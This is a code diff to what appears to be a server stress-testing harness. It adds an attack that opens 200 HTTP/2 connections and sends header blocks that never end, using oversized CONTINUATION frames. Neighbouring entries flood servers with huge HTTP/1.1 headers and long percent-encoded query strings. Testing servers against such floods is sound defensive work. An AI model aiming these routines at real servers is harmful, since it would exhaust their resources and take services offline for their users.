@@ -124,6 +124,12 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     socket.write(`GET ${MAPS} HTTP/1.1\r\nhost: x\r\nx-a: ${"b".repeat(380_000)}`);
     await hold(socket, isOver);
   }),
+  "200 blocks of headers over HTTP/2 that never end": keep(200, async (attacker, isOver) => {
+    const socket = await attacker.http2Socket();
+    socket.resume().write(frame(FRAME.headers, 0, 1, requestHeaders("GET", MAPS)));
+    for (let index = 0; index < 7; index++) socket.write(frame(FRAME.continuation, 0, 1, indexedHeader(`h${index}`, "v".repeat(16_000))));
+    await hold(socket, isOver);
+  }),
   "queries of 300 KB of %ff%ff&": keep(4, async (attacker, isOver) => {
     const socket = await attacker.tls("http/1.1");
     await pour(socket.resume(), isOver, () => query("%ff%ff&"));
